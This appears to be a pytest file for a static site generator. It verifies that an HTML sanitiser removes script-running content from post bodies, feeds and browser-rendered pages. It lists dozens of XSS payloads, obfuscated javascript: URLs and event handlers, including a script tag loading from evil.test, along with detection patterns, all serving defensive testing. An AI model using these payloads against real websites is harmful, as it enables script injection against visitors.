"""Nothing in a post body can run code: the final HTML is sanitised by an allow-list
(builder/pipeline/sanitise.py), in pages and feeds alike, with raw_html on or off; and all
that legitimate Markdown makes is kept."""

from __future__ import annotations

import html
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import MINI_CONFIG, post

from builder.build import build_site
from builder.pipeline.markup import MarkdownRenderer

REL = "content/news/2017/2017-03-14-a-workshop-in-bishkek.md"
PAGE = "news/2017/a-workshop-in-bishkek/index.html"

# Written in Markdown: reach the HTML with raw_html on or off (links, images, attribute lists).
MARKDOWN_VECTORS = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java&#x09;script:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![a](javascript:alert(1))",
    "<javascript:alert(1)>",
    '[a](https://example.org/){: href="&#106;avascript:alert(document.domain)" }',
    '[a](https://example.org/){: href="jav&#x0A;ascript:alert(1)" }',
    '[a](https://example.org/){: href="java&Tab;script:alert(1)" }',
    '[a](https://example.org/){: href="&#x6A;&#x41;&#x56;&#x41;script&colon;alert(1)" }',
    '[a](https://example.org/){: href="&#1;javascript:alert(1)" }',
    '[a](https://example.org/){: href="&#x20;&#x0B;javascript:alert(1)" }',
    '[a](https://example.org/){: href="vbscript&#58;msgbox(1)" }',
    '[a](https://example.org/){: href="data&#58;text/html,&lt;script&gt;alert(1)&lt;/script&gt;" }',
    '[a](https://example.org/){: onclick="alert(1)" onmouseover="alert(1)" }',
    '[a](https://example.org/){: style="background:url(javascript:alert(1))" }',
    '[a](https://example.org/){: formaction="javascript:alert(1)" ping="https://evil.test/" }',
    '![a](/x.png){: srcset="javascript:alert(1) 1x, data:image/svg+xml,x 2x" }',
    '![a](/x.png){: src="&#106;avascript:alert(1)" onerror="alert(1)" }',
    'A paragraph.\n{: onclick="alert(1)" style="position:fixed;inset:0" }',
]
# Written as HTML: shown as text with raw_html off, sanitised with raw_html on.
HTML_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg</text></a></svg>',
    "<math><mtext><a href=javascript:alert(1)>math</a></mtext></math>",
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
    '<a href="java&Tab;script:alert(1)">tab</a>',
    '<a href=" &#14;  javascript:alert(1)">control</a>',
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    '<a href="javascript&colon;alert(1)">colon</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img srcset="javascript:alert(1) 1x">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button>'
    "<input type=image src=javascript:alert(1)></form>",
    '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">'
    "</iframe>",
    '<object data="javascript:alert(1)"></object><embed src="data:text/html,x">',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<video poster="javascript:alert(1)"><source src="javascript:alert(1)"></video>',
    '<a href="https://example.org/" target="_blank" onclick="alert(1)">ok</a>',
]
CORPUS = "\n\n".join(MARKDOWN_VECTORS + HTML_VECTORS) + "\n"

ACTIVE = ("javascript:", "vbscript:", "data:")
URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f]+")
ALIGNMENTS = {f"text-align: {side};" for side in ("left", "center", "right")}
FORBIDDEN = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "input"}
FORBIDDEN |= {"button", "base", "meta", "link", "video", "source", "noscript"}


class Elements(HTMLParser):
    """Every element of an HTML text, with its attributes as a browser decodes them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.found.append((tag, [(name, value or "") for name, value in attrs]))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def elements(text: str) -> Elements:
    parser = Elements()
    parser.feed(text)
    parser.close()
    return parser


def active_content(body_html: str) -> list[str]:
    """What in `body_html` could run code or load something active; [] when nothing can."""
    found = []
    for tag, attrs in elements(body_html).found:
        if tag in FORBIDDEN:
            found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"srcset", "formaction", "action", "srcdoc"}:
                found.append(f"<{tag} {name}>")
            elif name == "style" and not (tag in ("th", "td") and value in ALIGNMENTS):
                found.append(f"<{tag} style={value!r}>")
            elif URL_NOISE.sub("", html.unescape(value)).lower().startswith(ACTIVE):
                found.append(f"<{tag} {name}={value!r}>")
    return found


def render(body: str, *, raw_html: bool) -> str:
    renderer = MarkdownRenderer(base_path="/", pages={}, files=frozenset(), raw_html=raw_html)
    return str(renderer.render(body, source="x.md", content_rel="news/x.md", line=1).html)


def test_the_checker_sees_each_kind_of_active_content() -> None:
    """Guard against a check that passes everything: unsanitised vectors are caught."""
    unsafe = [v for v in HTML_VECTORS[:-1] if not v.startswith("<!--")]  # a comment is inert
    assert [v for v in unsafe if not active_content(v)] == []


@pytest.mark.parametrize("raw_html", [False, True], ids=["raw_html_off", "raw_html_on"])
@pytest.mark.parametrize("vector", MARKDOWN_VECTORS + HTML_VECTORS)
def test_no_xss_vector_leaves_active_content_in_the_body(vector: str, raw_html: bool) -> None:
    assert active_content(render(vector + "\n", raw_html=raw_html)) == []


def test_an_entity_written_javascript_url_in_an_attribute_list_is_dropped() -> None:
    """Issue 18.2: the old filter saw Python-Markdown's placeholder, not the entity."""
    body = '[here](https://example.org/){: href="&#106;avascript:alert(document.domain)" }\n'
    assert render(body, raw_html=False) == "<p><a>here</a></p>"


def test_raw_html_is_kept_but_cannot_run_with_raw_html_on() -> None:
    body = '<b>bold</b> <span class="note">kept</span> <script>trusted()</script>\n'
    body += '<a href="https://example.org/" onclick="go()">link</a>\n'
    assert render(body, raw_html=True) == (
        '<p><b>bold</b> <span class="note">kept</span> \n'
        '<a href="https://example.org/">link</a></p>'
    )


@pytest.mark.parametrize("raw_html", [False, True], ids=["raw_html_off", "raw_html_on"])
def test_built_pages_and_both_feeds_carry_no_active_content(
    make_site, tmp_path: Path, raw_html: bool
) -> None:
    config = MINI_CONFIG + f"\n[content]\nraw_html = {str(raw_html).lower()}\n"
    # the image the corpus shows must exist: a missing one fails the build
    root = make_site({REL: post(body=CORPUS), "content/x.png": b"\x89PNG"}, config=config)
    out = tmp_path / "out"
    build_site(root, output_dir=out)
    page = (out / PAGE).read_text("utf-8")
    body = page[page.index("<article") : page.index("</article>")]
    assert "A paragraph." in body and active_content(body) == []
    for feed in ("feed.xml", "atom.xml"):
        bodies = [
            element.text
            for element in ET.fromstring((out / feed).read_bytes()).iter()
            if element.tag.endswith(("encoded", "content")) and element.text
        ]
        assert len(bodies) == 1 and "A paragraph." in bodies[0]
        assert active_content(bodies[0]) == []  # the post's HTML, as feed readers show it


LEGITIMATE = """\
# Title {#top}

Some *em*, **strong**, `code`, a [link](https://example.org/ "A title"), a [root](/news/x/),
a [relative](2017/other.md), an ![image](images/scanner.png "Scanner"){: width="640" height="480" \
loading="lazy" }.
It's "quoted" -- with dashes --- and ellipsis... & ampersand < less, non&nbsp;breaking.
Line with break~~
here. Mail <me@example.org>, call [us](tel:+996312000000), and <https://example.org/auto>.

## Second {: #second .wide }

| Left | Centre | Right |
|:-----|:------:|------:|
| a    | b      | c     |

```python
print("hi")  # <tag> & stuff
```

    indented code

> quote
> > nested

3. three
4. four

* a
* b

Term
:   Definition

Footnote here[^1]. The HTML spec is kept by the W3C.

*[HTML]: Hyper Text Markup Language
*[W3C]: World Wide Web Consortium

[^1]: The note, with a [link](https://example.org/).

---

[Anchored link](#second){: #anchor title="Go" rel="nofollow" .button lang="fr" dir="rtl" }

A paragraph with a class.
{: .note }
""".replace("~~\n", "  \n")  # a hard line break: two spaces at the end of a line


def dom(text: str) -> tuple[list, str]:
    """Elements with their attributes (as a browser decodes them), and the text."""
    parsed = elements(text)
    return parsed.found, "".join(parsed.text)


@pytest.mark.parametrize("raw_html", [False, True], ids=["raw_html_off", "raw_html_on"])
@pytest.mark.parametrize("base_path", ["/", "/bomca/"])
def test_legitimate_markdown_keeps_every_element_and_attribute(
    raw_html: bool, base_path: str
) -> None:
    renderer = MarkdownRenderer(
        base_path=base_path,
        pages={"news/2017/other.md": "news/2017/other/"},
        files=frozenset({"news/images/scanner.png"}),
        raw_html=raw_html,
    )
    sanitised = str(
        renderer.render(LEGITIMATE, source="x.md", content_rel="news/x.md", line=1).html
    )
    unsanitised = renderer.md.reset().convert(LEGITIMATE)  # the same links resolved, unsanitised
    assert dom(sanitised) == dom(unsanitised)
    tags = {tag for tag, _ in dom(sanitised)[0]}
    assert {
        "h2",
        "h3",
        "table",
        "th",
        "td",
        "pre",
        "code",
        "sup",
        "abbr",
        "img",
        "dl",
        "br",
    } <= tags
    assert f'href="{base_path}news/2017/other/"' in sanitised
    assert f'src="{base_path}news/images/scanner.png"' in sanitised
    assert '<th style="text-align: center;">' in sanitised  # the table keeps its alignment
    assert '<code class="language-python">' in sanitised
    assert (
        '<a href="mailto:me@example.org">' in sanitised and 'href="tel:+996312000000"' in sanitised
    )


# --- In a real browser: Debian's Chromium, driven by Playwright ------------------------------

SCAN = """() => {
    const active = /^(javascript|vbscript|data):/i;
    const found = [];
    for (const el of document.querySelectorAll('*')) {
        for (const attr of el.attributes) {
            const value = attr.value.replace(/[\\u0000-\\u0020\\u007f-\\u009f]/g, '');
            if (attr.name.startsWith('on') || active.test(value)) {
                found.push(`${el.tagName} ${attr.name}=${attr.value}`);
            }
        }
        for (const name of ['href', 'src', 'action', 'formAction', 'poster', 'data', 'srcset']) {
            let value = el[name];
            if (value && typeof value === 'object' && 'baseVal' in value) value = value.baseVal;
            if (typeof value === 'string' && active.test(value.trim())) {
                found.push(`${el.tagName}.${name}=${value}`);
            }
        }
    }
    const body = document.querySelector('article') || document.body;
    const kinds = 'script,style,iframe,object,embed,svg,math,form,input,button,base,meta,video';
    for (const el of body.querySelectorAll(kinds)) found.push(`<${el.tagName}> in the body`);
    for (const el of body.querySelectorAll('*')) {  // run whatever handler there might be
        for (const kind of ['mouseover', 'focus', 'load', 'error', 'toggle', 'animationstart']) {
            el.dispatchEvent(new Event(kind));
        }
    }
    return found;
}"""


@pytest.fixture(scope="module")
def browser():
    from tools import CHROMIUM, CHROMIUM_ARGS, chromium, require_tool

    require_tool(
        "Chromium (/usr/bin/chromium) driven by Playwright",
        chromium,
        "apt-get install chromium; python3 -m pip install -e '.[test]'",
    )
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield launched
        launched.close()


def scan_in_chromium(browser, load) -> tuple[list[str], list[str]]:
    """(active URLs, handlers and elements the DOM holds; messages of dialogs that opened)."""
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        load(page)
        page.wait_for_load_state("load")
        found = page.evaluate(SCAN)
        page.wait_for_timeout(300)  # let a timer, an error event or an autofocus fire
        return found, dialogs
    finally:
        page.close()


def test_chromium_check_sees_active_content_and_dialogs(browser) -> None:
    """Guard against a browser check that passes everything: an unsanitised page is caught."""
    unsafe = '<a href="&#106;avascript:alert(1)">x</a><img src="x:" onerror="alert(2)">'
    found, dialogs = scan_in_chromium(browser, lambda page: page.set_content(unsafe))
    assert any("javascript:" in item for item in found) and any("onerror" in i for i in found)
    assert "2" in dialogs


@pytest.mark.parametrize("raw_html", [False, True], ids=["raw_html_off", "raw_html_on"])
def test_chromium_finds_no_active_url_or_handler_and_no_dialog_opens(
    browser, make_site, tmp_path: Path, raw_html: bool
) -> None:
    from served import serve

    config = MINI_CONFIG + f"\n[content]\nraw_html = {str(raw_html).lower()}\n"
    # the image the corpus shows must exist: a missing one fails the build
    root = make_site({REL: post(body=CORPUS), "content/x.png": b"\x89PNG"}, config=config)
    out = tmp_path / "out"
    build_site(root, output_dir=out)
    with serve(out) as url:
        found, dialogs = scan_in_chromium(browser, lambda page: page.goto(url + PAGE))
    assert found == [] and dialogs == []


def test_a_body_cached_before_the_sanitiser_is_sanitised_by_the_next_build(
    make_site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A build cache made without the sanitiser (or under another allow-list) is not reused:
    the allow-list is part of the settings every cached body depends on."""
    import builder.pipeline.inputs
    import builder.pipeline.markup

    root = make_site({REL: post(body='<a href="javascript:alert(1)">link</a>\n')})
    out = tmp_path / "out"
    monkeypatch.setattr(builder.pipeline.markup, "sanitise", lambda html: html)
    monkeypatch.setattr(builder.pipeline.inputs, "POLICY_KEY", "before the sanitiser")
    build_site(root, output_dir=out)
    assert 'href="javascript:' in (out / PAGE).read_text("utf-8")  # as an older newsroom made it
    monkeypatch.undo()
    build_site(root, output_dir=out)
    page = (out / PAGE).read_text("utf-8")
    assert ">link</a>" in page and active_content(page[page.index("<article") :]) == []
